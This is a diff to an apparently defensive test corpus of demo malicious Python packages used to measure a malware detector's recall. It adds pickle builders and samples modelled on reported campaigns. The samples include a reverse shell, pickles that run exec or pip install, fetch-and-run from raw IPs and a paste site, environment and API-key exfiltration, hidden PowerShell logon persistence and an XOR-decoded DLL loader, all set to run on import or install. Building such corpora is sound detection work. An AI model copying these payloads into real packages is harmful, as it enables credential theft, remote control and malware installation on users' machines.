@@ -43,6 +43,26 @@ def _torch_zip(code):
     return buf.getvalue().decode("latin-1")
 
 
+def _broken_pickle(code):
+    """A protocol-2 pickle whose first REDUCE calls exec(code), then breaks: no STOP, a string
+    whose length runs past the end (the stream fails to load only after the payload ran)."""
+    import pickle
+
+    class _R:
+        def __reduce__(self):
+            return (exec, (code,))
+
+    good = pickle.dumps(_R(), protocol=2)
+    return (good[:-1] + b"X\xff\xff\xff\x7fjunk").decode("latin-1")
+
+
+def _pickle_p0(module, name, *args):
+    """A protocol-0 pickle, written opcode by opcode, that calls module.name(*args) when loaded
+    (GLOBAL, MARK, string arguments, TUPLE, REDUCE, STOP)."""
+    body = "".join("S'%s'\n" % a for a in args)
+    return "c%s\n%s\n(%stR." % (module, name, body)
+
+
 SAMPLES = [
     # Checkmarx, "top.gg" GitHub/PyPI campaign (2024): a fake colorama whose __init__ hides a
     # fetch-and-run past the visible line with whitespace; the second stage comes from a paste host.
@@ -637,4 +657,168 @@ SAMPLES = [
      "CI tokens and ~/.git-credentials sent to a request-inspection service at install",
      "StepSecurity / Socket, CI token stealers (2025)",
      ["credential-theft", "exfiltration", "shady-links"]),
+
+    # ---- Round 4 (recall4, 2026-12-01): written before any detector change of the round ----
+
+    # ReversingLabs, "nullifAI" (Feb 2025): model files whose pickle stream starts with a
+    # platform-aware reverse shell and then breaks, so scanners that give up on a malformed
+    # stream see nothing while the loader has already run the payload. Here the model ships in
+    # a wheel and the package loads it on import.
+    ("demo-nullifai", "wheel", {
+        "demo_nullifai/__init__.py": "import os, torch\n"
+        "_m = torch.load(os.path.join(os.path.dirname(__file__), 'weights', 'pytorch_model.bin'))\n",
+        "demo_nullifai/weights/pytorch_model.bin": _broken_pickle(
+            "import os, socket, subprocess, platform\n"
+            "s = socket.socket(); s.connect(('203.0.113.77', 4242))\n"
+            "sh = 'cmd.exe' if platform.system() == 'Windows' else '/bin/sh'\n"
+            "subprocess.Popen([sh], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n")},
+     "broken pickle whose payload (a reverse shell) runs before the stream fails; loaded on import",
+     "ReversingLabs, nullifAI (2025)",
+     ["non-source-payload", "reverse-shell", "import-time"]),
+
+    # Sonatype, picklescan bypasses (CVE-2025-1716, 2025): a pickle whose callable is pip's
+    # own entry point, so loading the model installs a package from an attacker's URL.
+    ("demo-pip-main-pickle", "wheel", {
+        "demo_pip_main_pickle/__init__.py": "import pickle, pathlib\n"
+        "with open(pathlib.Path(__file__).with_name('tokenizer.pkl'), 'rb') as _f:\n    TOKENIZER = pickle.load(_f)\n",
+        "demo_pip_main_pickle/tokenizer.pkl": _pickle_p0("pip", "main", "install", "http://198.51.100.31/t/helper-0.1.tar.gz")},
+     "pickle that calls pip.main to install from a raw-IP URL; loaded on import",
+     "Sonatype, picklescan bypass via pip.main (2025)",
+     ["non-source-payload", "download-run", "import-time", "shady-links"]),
+
+    # JPCERT/CC, Lazarus packages pycryptoenv / pycryptoconf (2024): test.py, imported by the
+    # package, XOR-decodes a data file named like a cache (IconCache.db) into a DLL and runs it.
+    ("demo-iconcache", "wheel", {
+        "demo_iconcache/__init__.py": "from . import test\n",
+        "demo_iconcache/test.py": "import os, ctypes, tempfile\n"
+        "def _x(b, k=0x2A):\n    return bytes(c ^ k for c in b)\n"
+        "_src = os.path.join(os.path.dirname(__file__), 'IconCache.db')\n"
+        "_dst = os.path.join(tempfile.gettempdir(), 'iconcache.dll')\n"
+        "with open(_src, 'rb') as f, open(_dst, 'wb') as g:\n    g.write(_x(f.read()))\n"
+        "ctypes.WinDLL(_dst).Run()\n",
+        "demo_iconcache/IconCache.db": "".join(chr(ord(c) ^ 0x2A) for c in "MZ\x90\x00\x03" + "\x00" * 40 + "PE\x00\x00")},
+     "XOR-decoded DLL from a data file, written to temp and loaded with ctypes on import",
+     "JPCERT/CC, Lazarus pycryptoenv / pycryptoconf (2024)",
+     ["non-source-payload", "native-injection", "decode-run", "import-time"]),
+
+    # JFrog, "Revival Hijack" (2024): a removed project's name re-registered; the new release's
+    # __init__ carries a base64 payload that, on CI machines, fetches a script and runs it.
+    ("demo-revival", "wheel", {"demo_revival/__init__.py":
+        "import os, base64\n"
+        "if os.environ.get('JENKINS_URL') or os.environ.get('CI'):\n"
+        "    exec(base64.b64decode('" + B64(
+            "import urllib.request, subprocess, tempfile, os\n"
+            "p = os.path.join(tempfile.gettempdir(), 'jx.sh')\n"
+            "urllib.request.urlretrieve('http://203.0.113.58/jenkins/agent.sh', p)\n"
+            "subprocess.call(['bash', p])\n") + "'))\n"},
+     "base64 payload run on CI machines at import fetches a script and runs it",
+     "JFrog, Revival Hijack / pingdomv3 (2024)",
+     ["decode-run", "download-run", "import-time"]),
+
+    # Zscaler ThreatLabz, "sisaws" / SilentSync RAT (2025): a look-alike of a health-service
+    # SDK whose token helper, given a hard-coded token, fetches a second stage from a paste
+    # site with curl and runs it with the interpreter.
+    ("demo-silentsync", "wheel", {"demo_silentsync/auth.py":
+        "import os, sys, subprocess, tempfile\n"
+        "def gen_token(token):\n"
+        "    if token == '8670c5a4c1d24e0cb4d3a4b0':\n"
+        "        p = os.path.join(tempfile.gettempdir(), 'helper.py')\n"
+        "        subprocess.run(['curl', '-s', '-o', p, 'https://pastebin.com/raw/Xq3v9LmA'])\n"
+        "        subprocess.Popen([sys.executable, p])\n"
+        "    return {'token': token}\n",
+        "demo_silentsync/__init__.py": "from .auth import gen_token\n"},
+     "token helper fetches a paste-site script with curl and runs it with python",
+     "Zscaler ThreatLabz, sisaws / SilentSync RAT (2025)",
+     ["download-run", "shady-links"]),
+
+    # Positive Technologies, "deepseeek" / "deepseekai" (2025): console commands named after an
+    # AI model collect the environment (API keys, database credentials) and post it to a
+    # request-collection service.
+    ("demo-deepseeek", "wheel", {
+        "demo_deepseeek/main.py": "import os, json, socket, urllib.request\n"
+        "def main():\n"
+        "    data = json.dumps({'h': socket.gethostname(), 'env': dict(os.environ)}).encode()\n"
+        "    urllib.request.urlopen(urllib.request.Request('https://eoz1k2m3n4.m.pipedream.net', data=data))\n",
+        "demo_deepseeek-1.0.dist-info/entry_points.txt": "[console_scripts]\ndeepseeek = demo_deepseeek.main:main\n"},
+     "console command posts the whole environment and hostname to a request-collection service",
+     "Positive Technologies, deepseeek / deepseekai (2025)",
+     ["exfiltration", "credential-theft", "beacon"]),
+
+    # Socket, "ccxt-mexc-futures" (2025): patches an exchange client's request signing so that
+    # every order also sends the user's API key and secret to the attacker's host.
+    ("demo-mexc-patch", "wheel", {
+        "demo_mexc_patch/__init__.py": "from .patch import install\ninstall()\n",
+        "demo_mexc_patch/patch.py": "import json, requests\nimport ccxt\n"
+        "_orig = ccxt.mexc.sign\n"
+        "def _sign(self, path, api='public', method='GET', params={}, headers=None, body=None):\n"
+        "    requests.post('https://v3.mexc-futures.workers.dev/api/v1/private/account',\n"
+        "                  data=json.dumps({'key': self.apiKey, 'secret': self.secret, 'path': path}))\n"
+        "    return _orig(self, path, api, method, params, headers, body)\n"
+        "def install():\n    ccxt.mexc.sign = _sign\n"},
+     "exchange client patched on import to send API key and secret with every request",
+     "Socket, ccxt-mexc-futures (2025)",
+     ["credential-theft", "exfiltration", "import-time"]),
+
+    # JFrog, "soopsocks" (2025): a SOCKS proxy package that, on Windows, writes a VBScript and a
+    # PowerShell script, registers itself to start at logon and reports the machine's public IP
+    # to a Discord webhook.
+    ("demo-soopsocks", "wheel", {"demo_soopsocks/__init__.py":
+        "import os, subprocess, requests\n"
+        "if os.name == 'nt':\n"
+        "    d = os.path.join(os.environ['APPDATA'], 'soop')\n    os.makedirs(d, exist_ok=True)\n"
+        "    ps = os.path.join(d, 'run.ps1')\n"
+        "    open(ps, 'w').write('Start-Process python -ArgumentList \"-m soopsocks.server\" -WindowStyle Hidden')\n"
+        "    vbs = os.path.join(d, 'run.vbs')\n"
+        "    open(vbs, 'w').write('CreateObject(\"WScript.Shell\").Run \"powershell -ep bypass -w hidden -f ' + ps + '\", 0')\n"
+        "    subprocess.call(['schtasks', '/create', '/tn', 'SoopSocks', '/sc', 'onlogon', '/tr', 'wscript ' + vbs, '/f'])\n"
+        "    ip = requests.get('https://api.ipify.org').text\n"
+        "    requests.post('https://discord.com/api/webhooks/1400000000000000000/c29vcHNvY2tzLWV4YW1wbGUtdG9rZW4', json={'content': ip + ':1080'})\n"},
+     "logon task runs a hidden VBScript/PowerShell pair; public IP posted to a webhook; on import",
+     "JFrog, soopsocks (2025)",
+     ["persistence", "beacon", "exfiltration", "import-time"]),
+
+    # Check Point, WhiteSnake stealer in PyPI packages (2023): setup.py carries a base64 Windows
+    # executable, writes it into the temp directory and starts it during install.
+    ("demo-whitesnake", "sdist", {"setup.py":
+        "import os, sys, base64, tempfile, subprocess\nfrom setuptools import setup\n"
+        "if sys.platform == 'win32':\n"
+        "    _exe = os.path.join(tempfile.gettempdir(), 'svchost32.exe')\n"
+        "    with open(_exe, 'wb') as f:\n"
+        "        f.write(base64.b64decode('" + base64.b64encode(b"MZ\x90\x00\x03\x00\x00\x00\x04" + b"\x00" * 50 + b"PE\x00\x00L\x01").decode() + "'))\n"
+        "    subprocess.Popen([_exe], creationflags=0x08000000)\n"
+        "setup(name='demo-whitesnake', version='0.1.3', packages=[])\n"},
+     "base64 Windows executable written to temp and started from setup.py",
+     "Check Point, WhiteSnake stealer on PyPI (2023)",
+     ["decode-run", "download-run"]),
+
+    # Datadog Security Labs, MUT-8694 / "larpexodus" (2024): setup.py runs PowerShell that
+    # downloads an executable into the temp directory and starts it.
+    ("demo-larpexodus", "sdist", {"setup.py":
+        "import os\nfrom setuptools import setup\n"
+        "if os.name == 'nt':\n"
+        "    os.system('powershell -Command \"Invoke-WebRequest -Uri https://files.example-drop.net/d/Lp3x.exe '\n"
+        "              '-OutFile $env:TEMP\\\\Lp3x.exe; Start-Process $env:TEMP\\\\Lp3x.exe\"')\n"
+        "setup(name='demo-larpexodus', version='0.0.1')\n"},
+     "PowerShell downloads an executable to temp and starts it, from setup.py",
+     "Datadog Security Labs, MUT-8694 / larpexodus (2024)",
+     ["download-run", "shady-links"]),
+
+    # Phylum, "django-log-tracker" compromise (2024): a new release replaced the package with an
+    # __init__ that downloads an executable from a raw IP and runs it.
+    ("demo-log-tracker", "wheel", {"demo_log_tracker/__init__.py":
+        "import os, requests, subprocess\n"
+        "_p = os.path.join(os.getenv('TEMP', '/tmp'), 'tracker.exe')\n"
+        "open(_p, 'wb').write(requests.get('http://198.51.100.144/tracker.exe').content)\n"
+        "subprocess.Popen(_p, shell=True)\n"},
+     "executable downloaded from a raw IP and started on import",
+     "Phylum, django-log-tracker compromise (2024)",
+     ["download-run", "shady-links", "import-time"]),
 ]
+
+# The samples added by each round that marks them (bench/recall.py prints their count apart,
+# so a round's honest generalisation figure is visible). Unlisted samples: earlier rounds.
+ROUNDS = {name: "round 4" for name in (
+    "demo-nullifai", "demo-pip-main-pickle", "demo-iconcache", "demo-revival", "demo-silentsync",
+    "demo-deepseeek", "demo-mexc-patch", "demo-soopsocks", "demo-whitesnake", "demo-larpexodus",
+    "demo-log-tracker")}
+
